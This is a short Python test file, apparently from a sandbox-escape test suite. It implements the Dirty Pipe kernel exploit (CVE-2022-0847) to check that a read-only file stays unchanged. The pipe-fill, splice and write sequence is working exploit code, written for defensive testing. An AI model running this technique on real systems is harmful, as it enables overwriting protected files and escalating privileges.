"""Dirty Pipe: splice a read-only page into a pipe and write to it.

Source: CVE-2022-0847
"""

import fcntl
import os

from tests.escape.kit import Scene, read

EXPECT = "unchanged"


def attack(scene: Scene) -> object:
    take, give = os.pipe()
    size = fcntl.fcntl(give, 1032)
    os.write(give, bytes(size))
    os.read(take, size)
    fd = os.open(scene.notes, os.O_RDONLY)
    os.splice(fd, give, 1, offset_src=0)
    os.write(give, b"XXXX")
    return "unchanged" if read(scene.notes) == b"notes\n" else "changed"
